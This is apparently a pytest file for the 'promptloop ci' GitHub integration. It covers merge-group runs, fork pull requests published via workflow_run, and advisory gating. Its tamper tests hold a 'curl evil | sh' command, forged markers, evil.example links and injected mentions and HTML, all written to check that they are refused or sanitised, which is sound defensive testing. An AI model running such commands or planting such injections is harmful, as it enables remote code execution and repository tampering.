"""`promptloop ci` on the rest of GitHub's events, through the runner's environment
(GITHUB_EVENT_NAME, GITHUB_EVENT_PATH) and the fake GitHub: a merge queue's group, and a
fork's pull request whose words the base repository's `workflow_run` publishes from the
fork run's artifact (untrusted: each tampering is refused with one line)."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from promptloop.commands.ci import CiOptions, run_ci
from promptloop.errors import UserError
from promptloop.github.saying import SAYING_FILE
from tests.commands.test_ci_dry_run import planned, writes
from tests.commands.test_ci_github import (
    CONFIG,
    EVENTS,
    HEAD_PROMPT,
    PROMPT,
    PROVIDER_KEY,
    REPO,
    TOKEN,
    Scenario,
    fast_client,
    is_summary,
    pr_entries,
    prompt,
    write_event,
)
from tests.fakegithub import FakeGitHub

FORK = "forker/prompts"
RUN_URL = "https://github.example/octo/prompts/actions/runs/99"


def merge_group_event(scenario: Scenario) -> dict[str, Any]:
    payload = json.loads((EVENTS / "merge_group.checks_requested.json").read_text())
    group = payload["merge_group"]
    group["base_sha"], group["head_sha"] = scenario.base_sha, scenario.head_sha
    payload["repository"]["full_name"] = REPO
    return payload


def test_a_merge_group_concludes_one_check_run_on_its_head_and_gates(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    gh = scenario.gh
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    write_event(scenario, merge_group_event(scenario))
    res = scenario.run(capsys, event_name="merge_group")

    assert res.code == 1
    runs = gh.check_runs(REPO)
    assert [(r["head_sha"], r["name"], r["conclusion"]) for r in runs] == [
        (scenario.head_sha, "promptloop", "failure")
    ]
    # The group's head against its base (every case went from pass to fail), and no
    # comment anywhere.
    assert float(res.outputs["delta"]) == pytest.approx(-100.0)
    assert gh.reviews(REPO, 7) == [] and gh.issue_comments(REPO) == []
    assert not [w for w in writes(gh) if "/check-runs" not in w]
    # The queue re-running the same group writes nothing more.
    before = writes(gh)
    assert scenario.run(capsys, event_name="merge_group").code == 1
    assert writes(gh) == before


def test_a_merge_group_says_what_changed_without_calling_it_a_pull_request(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    write_event(scenario, merge_group_event(scenario))
    res = scenario.run(capsys, event_name="merge_group")
    [run] = scenario.gh.check_runs(REPO)
    for text in (run["output"]["summary"], res.summary):
        assert f"> These commits change {PROMPT}, so greet ran." in text
        assert "This pull request" not in text


def test_a_merge_group_that_fixes_the_prompt_passes(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    # The queue's base already asks for exclamation marks; the group's head stops it.
    base = scenario.head_sha
    scenario.push({PROMPT: prompt("Be calm and kind.")})
    scenario.base_sha = base
    write_event(scenario, merge_group_event(scenario))
    res = scenario.run(capsys, event_name="merge_group")
    assert res.code == 0
    [run] = scenario.gh.check_runs(REPO)
    assert (run["head_sha"], run["conclusion"]) == (scenario.head_sha, "success")
    assert float(res.outputs["delta"]) == pytest.approx(100.0)


def test_a_merge_group_dry_run_writes_nothing(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    write_event(scenario, merge_group_event(scenario))
    res = scenario.run(capsys, event_name="merge_group", dry_run=True)
    assert writes(scenario.gh) == []
    [line] = planned(res.stdout)
    assert line.startswith(f"create the check run 'promptloop' on {scenario.head_sha[:7]}")
    assert res.code == 1


# --- a fork's pull request, published by workflow_run ----------------------------------------


def workflow_run_event(
    scenario: Scenario, *, listed: bool = False, **changes: Any
) -> dict[str, Any]:
    """The event of the fork's run completing. GitHub lists no pull request with a fork's
    run (``listed=False``, what it sends): promptloop finds it by the head branch."""
    payload = json.loads((EVENTS / "workflow_run.completed.with-pull-requests.json").read_text())
    run = payload["workflow_run"]
    run["head_sha"] = scenario.head_sha
    run["html_url"] = RUN_URL
    run["event"] = "pull_request"
    run["head_branch"] = "feature"
    run["head_repository"]["full_name"] = FORK
    [pull] = run["pull_requests"]
    pull["number"], pull["head"]["sha"] = scenario.number, scenario.head_sha
    if not listed:
        run["pull_requests"] = []
    payload["repository"]["full_name"] = REPO
    for key, value in changes.items():
        run[key] = value
    return payload


def publish(
    scenario: Scenario,
    capsys: pytest.CaptureFixture[str],
    results: Path,
    payload: dict[str, Any],
    **opts: Any,
) -> Any:
    write_event(scenario, payload)
    return scenario.run(capsys, event_name="workflow_run", results_path=results, **opts)


def fork_run(scenario: Scenario, capsys: pytest.CaptureFixture[str]) -> Path:
    """The fork's read-only pull_request run: it gates and writes nothing to GitHub."""
    scenario.gh.add_repo(FORK, fork_of=REPO)
    scenario.head_repo = FORK
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    before = writes(scenario.gh)
    res = scenario.run(capsys)
    assert res.code == 1 and writes(scenario.gh) == before
    results = Path(res.outputs["results-path"])
    # The artifact is as public as the pull request: the key a case leaked is masked.
    saying = (results.parent / SAYING_FILE).read_text()
    assert "Hello Ada! ***" in saying and PROVIDER_KEY not in saying
    return results


def what_was_said(gh: FakeGitHub) -> dict[str, Any]:
    [review] = gh.reviews(REPO, 7)
    [sticky] = gh.issue_comments(REPO, 7)
    [check] = gh.check_runs(REPO)
    return {
        "review": review["body"],
        "comments": sorted((c["path"], c["line"], c["body"]) for c in gh.review_comments(REPO, 7)),
        "summary": sticky["body"],
        "check": (check["head_sha"], check["conclusion"], check["output"]["title"]),
        "check_summary": check["output"]["summary"],
    }


def stable(said: dict[str, Any], gh: FakeGitHub) -> str:
    """What was said, without what differs between any two runs: the time and duration
    lines, and the fake server's address and ids in links."""
    text = json.dumps(said, indent=1, ensure_ascii=False).replace(gh.url, "GITHUB")
    text = re.sub(r"<sub>[^\n]*?</sub>", "<sub>…</sub>", text)
    return re.sub(r"pullrequestreview-\d+", "pullrequestreview-N", text)


@pytest.fixture
def same_repo_github() -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        fake.set_token(TOKEN)
        fake.add_repo(REPO)
        yield fake
    assert not fake.internal_errors and not fake.response_schema_errors


def same_repository_twin(fork: Scenario, fake: FakeGitHub) -> Scenario:
    """The fork's pull request as a same-repository one: the same commits (a copy of the
    checkout, so every SHA the words name is the same) on a second fake GitHub."""
    other = Scenario(fork.tmp / "same", fake, fork.tmp / "same" / "repo")
    shutil.copytree(fork.repo, other.repo)
    other.base_sha, other.head_sha, other.head = fork.base_sha, fork.head_sha, dict(fork.head)
    fake.add_branch(REPO, "main", other.base)
    fake.add_branch(REPO, "feature", other.head, parent="main")
    entries = pr_entries(other.base, other.head)
    fake.add_pull(REPO, 7, "main", other.base_sha, "feature", other.head_sha, files=entries)
    return other


def test_the_fork_pair_posts_what_a_same_repository_run_would(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], same_repo_github: FakeGitHub
) -> None:
    results = fork_run(scenario, capsys)
    res = publish(scenario, capsys, results, workflow_run_event(scenario))
    assert res.code == 0, res.stderr
    assert "::warning" not in res.stdout, res.stdout
    fork_said = what_was_said(scenario.gh)

    other = same_repository_twin(scenario, same_repo_github)
    same = other.run(capsys)
    assert same.code == 1
    same_said = what_was_said(same_repo_github)

    assert stable(fork_said, scenario.gh) == stable(same_said, same_repo_github)
    # The action's outputs too: the publishing run reads the figures from the artifact.
    for key in ("verdict", "pass-rate", "delta"):
        assert res.outputs[key] == same.outputs[key] != "", key
    assert any("```suggestion" in body for _, _, body in fork_said["comments"])
    assert is_summary(fork_said["summary"]) and "FAIL" in fork_said["summary"]
    assert "read-only" not in fork_said["summary"]
    # A second publication of the same artifact writes nothing more.
    before = writes(scenario.gh)
    assert publish(scenario, capsys, results, workflow_run_event(scenario)).code == 0
    assert writes(scenario.gh) == before


def test_publishing_a_fork_run_sets_the_actions_outputs_as_a_same_repository_run_does(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    res = publish(scenario, capsys, results, workflow_run_event(scenario))
    assert res.code == 0, res.stderr
    # The learned revision went into the review as suggested changes: the output says where.
    [review] = scenario.gh.reviews(REPO, 7)
    assert res.outputs["suggestion-url"] == review["html_url"]
    assert res.outputs["results-path"] == str(results.resolve())


def test_publishing_a_fork_run_dry_writes_nothing(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    before = writes(scenario.gh)
    res = publish(scenario, capsys, results, workflow_run_event(scenario), dry_run=True)
    assert writes(scenario.gh) == before
    plan = planned(res.stdout)
    assert any(line.startswith("create a review on #7") for line in plan)
    assert "create the summary comment on #7" in plan
    assert any(line.startswith("create the check run 'promptloop'") for line in plan)


def tamper(path: Path, change: Any) -> None:
    doc = json.loads(path.read_text())
    change(doc)
    path.write_text(json.dumps(doc))


def _forge_marker(doc: dict[str, Any]) -> None:
    doc["inline"][0]["body"] += "\n\n<!-- promptloop:summary head=abc content=def -->"


def _extra_field(doc: dict[str, Any]) -> None:
    doc["inline"][0]["run"] = "curl evil | sh"


def _other_head(doc: dict[str, Any]) -> None:
    doc["head_sha"] = "1" * 40


def _other_pull(doc: dict[str, Any]) -> None:
    doc["number"] = 8


def _oversized(doc: dict[str, Any]) -> None:
    doc["notes"] = ["x" * 60_000] * 80


def _outside_link(doc: dict[str, Any]) -> None:
    doc["links"] = [{"label": "revision", "url": "https://evil.example/x"}]


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (_forge_marker, "inline.0.body: refused the fork's artifact: it carries a forged"),
        (_extra_field, "inline.0.run: refused the fork's artifact: it is not promptloop's"),
        (_other_head, "head_sha: refused the fork's artifact: it is for commit 111111111111"),
        (_other_pull, "number: refused the fork's artifact: it is for pull request #8"),
        (_oversized, "the fork's saying file is 4.6 MB; promptloop reads"),
        (_outside_link, "links.0.url: refused the fork's artifact: a link leads outside"),
    ],
)
def test_a_tampered_artifact_is_refused_with_one_line(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], change: Any, expected: str
) -> None:
    results = fork_run(scenario, capsys)
    tamper(results.parent / SAYING_FILE, change)
    before = writes(scenario.gh)
    with pytest.raises(UserError) as info:
        publish(scenario, capsys, results, workflow_run_event(scenario))
    line = info.value.one_line()
    assert expected in line and "\n" not in line
    assert line.startswith(SAYING_FILE)
    assert writes(scenario.gh) == before


def test_the_pull_request_listed_with_the_run_is_used_when_github_lists_one(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    scenario.gh.add_repo("someone/else")
    payload = workflow_run_event(scenario, listed=True)
    payload["workflow_run"]["head_repository"]["full_name"] = "someone/else"
    assert publish(scenario, capsys, results, payload).code == 0
    assert len(scenario.gh.reviews(REPO, 7)) == 1


def test_a_run_whose_branch_has_no_open_pull_request_is_refused(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    payload = workflow_run_event(scenario, head_branch="elsewhere")
    with pytest.raises(UserError) as info:
        publish(scenario, capsys, results, payload)
    assert info.value.one_line() == (
        "workflow_run.head_branch: no open pull request comes from forker:elsewhere, "
        "so the run's cannot be told"
    )
    assert scenario.gh.check_runs(REPO) == []


def test_a_run_for_another_head_is_refused(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    payload = workflow_run_event(scenario, head_sha="2" * 40)
    with pytest.raises(UserError) as info:
        publish(scenario, capsys, results, payload)
    assert "it is for commit" in info.value.one_line()
    assert scenario.gh.check_runs(REPO) == []


def test_the_workflow_run_needs_the_artifact(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    write_event(scenario, workflow_run_event(scenario, listed=True))
    env = {
        "GITHUB_EVENT_PATH": str(scenario.event()),
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_API_URL": scenario.gh.url,
        "GITHUB_TOKEN": TOKEN,
    }
    with pytest.raises(UserError) as info:
        run_ci(CiOptions(), env, github_factory=fast_client)
    assert "pass --results" in info.value.one_line()
    missing = tmp_path / "nowhere" / "results.json"
    with pytest.raises(UserError) as info:
        run_ci(CiOptions(results_path=missing), env, github_factory=fast_client)
    assert "cannot read the fork's artifact" in info.value.one_line()


# --- advisory mode -----------------------------------------------------------------------


def test_an_advisory_suite_is_reported_and_commented_but_never_fails_the_check(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    gh = scenario.gh
    advisory = CONFIG.replace(
        "    dataset: evals/greet.jsonl\n",
        "    dataset: evals/greet.jsonl\n    gate: {mode: advisory}\n",
    )
    assert advisory != CONFIG
    scenario.base = {**scenario.base, "promptloop.yaml": advisory}
    scenario.open_pull({PROMPT: HEAD_PROMPT})
    res = scenario.run(capsys)

    assert res.code == 0
    [run] = gh.check_runs(REPO, scenario.head_sha)
    assert run["conclusion"] == "neutral"
    assert run["output"]["title"].startswith("promptloop: FAIL (advisory, not gating)")
    # The same minus sign (−) as every report, not a hyphen.
    assert run["output"]["title"].endswith(" · −100.0 pp vs base")
    assert "greet is reported and commented on, but never fail" in run["output"]["summary"]
    # Reported and commented in full: the review, its suggestion and the summary are there.
    assert gh.reviews(REPO, 7) and any(
        "```suggestion" in c["body"] for c in gh.review_comments(REPO, 7)
    )
    [sticky] = gh.issue_comments(REPO, 7)
    assert "FAIL" in sticky["body"] and "Advisory: greet" in sticky["body"]
    assert res.outputs["verdict"] == "fail"


def test_the_gate_mode_is_the_suites_own_or_the_top_level_one() -> None:
    from promptloop.project.config.parse import parse_config

    text = CONFIG.replace("gate: {on_error: fail}", "gate: {on_error: fail, mode: advisory}")
    text += (
        "  - name: strict\n    prompt: prompts/greet.md\n    dataset: evals/greet.jsonl\n"
        "    gate: {mode: gate}\n"
    )
    assert parse_config(text, "promptloop.yaml").advisory_suites() == {"greet"}
    with pytest.raises(UserError) as info:
        parse_config(CONFIG + "    gate: {mode: watch}\n", "promptloop.yaml")
    assert info.value.one_line() == (
        "promptloop.yaml:16: suites[0].gate.mode: Input should be 'gate' or 'advisory', got 'watch'"
    )


def test_the_command_line_refuses_a_tampered_artifact_in_one_line(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from click.testing import CliRunner

    from promptloop.cli import cli

    results = fork_run(scenario, capsys)
    tamper(results.parent / SAYING_FILE, _other_head)
    write_event(scenario, workflow_run_event(scenario))
    env = {
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(scenario.event()),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_API_URL": scenario.gh.url,
        "GITHUB_SERVER_URL": "https://github.example",
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_WORKSPACE": str(scenario.repo),
    }
    monkeypatch.chdir(scenario.repo)
    before = writes(scenario.gh)
    done = CliRunner().invoke(cli, ["ci", "--results", str(results)], env=env)
    assert done.exit_code == 2
    [line] = done.stderr.splitlines()
    assert line.startswith(
        f"promptloop: error: {SAYING_FILE}: head_sha: refused the fork's artifact: "
        f"it is for commit 111111111111, the run was for {scenario.head_sha[:12]}"
    )
    # Refused before anything was written: GitHub was only asked which pull request it is.
    assert writes(scenario.gh) == before


def test_the_forks_prose_is_neutralised_again(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)

    def hostile(doc: dict[str, Any]) -> None:
        doc["review_body"] += (
            "\n\n@octo-org/admins see [this](https://evil.example/x) <img src=x> #12"
            "\n\n[climb](https://github.example/octo/prompts/../../evil/repo)"
        )

    tamper(results.parent / SAYING_FILE, hostile)
    assert publish(scenario, capsys, results, workflow_run_event(scenario)).code == 0
    [review] = scenario.gh.reviews(REPO, 7)
    body = review["body"]
    assert "@\u200docto-org/admins" in body and "@octo-org" not in body
    assert "](https://evil" not in body and "<img" not in body and " #12" not in body
    assert "](https://github.example/octo/prompts/../" not in body
    # promptloop's own words and marker are intact.
    assert body.rstrip().endswith(f"<!-- promptloop:review head={scenario.head_sha} -->")


def test_a_pull_request_that_moved_on_gets_only_the_check_run(
    scenario: Scenario, capsys: pytest.CaptureFixture[str]
) -> None:
    results = fork_run(scenario, capsys)
    payload = workflow_run_event(scenario, listed=True)
    payload["workflow_run"]["pull_requests"][0]["head"]["sha"] = "3" * 40
    res = publish(scenario, capsys, results, payload)
    assert res.code == 0
    gh = scenario.gh
    assert gh.reviews(REPO, 7) == [] and gh.issue_comments(REPO, 7) == []
    [run] = gh.check_runs(REPO)
    assert (run["head_sha"], run["conclusion"]) == (scenario.head_sha, "failure")
    assert "has moved on to 333333333333" in res.summary


def test_the_real_payloads_read_into_their_contexts() -> None:
    from promptloop.github.event import MergeGroupContext, WorkflowRunContext, load_event

    group = load_event(EVENTS / "merge_group.checks_requested.json", "merge_group")
    assert group == MergeGroupContext(
        event_name="merge_group",
        head_sha="2ffea6db159f6b6c47a24e778fb9ef40cf6b1c7d",
        head_ref="refs/heads/gh-readonly-queue/main/pr-104-929f8209d40f77f4abc622a499c93a83babdbe64",
        base_sha="380387fbc80638b734a49e1be1c4dfec1c01b33c",
        base_ref="refs/heads/main",
        repo_full_name="octo-org/octo-repo",
    )
    run = load_event(EVENTS / "workflow_run.completed.with-pull-requests.json", "workflow_run")
    assert isinstance(run, WorkflowRunContext)
    # The one pull request listed, whose head has moved on from the run's.
    assert (run.number, run.pull_head_sha) == (2, "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
    assert run.head_sha == "3484a3fb816e0859fd6e1cea078d76385ff50625"
    assert (run.run_id, run.run_url) == (
        289782451,
        "https://github.com/octo-org/octo-repo/actions/runs/289782451",
    )
    assert (run.head_owner, run.head_branch) == ("octo-org", "master")
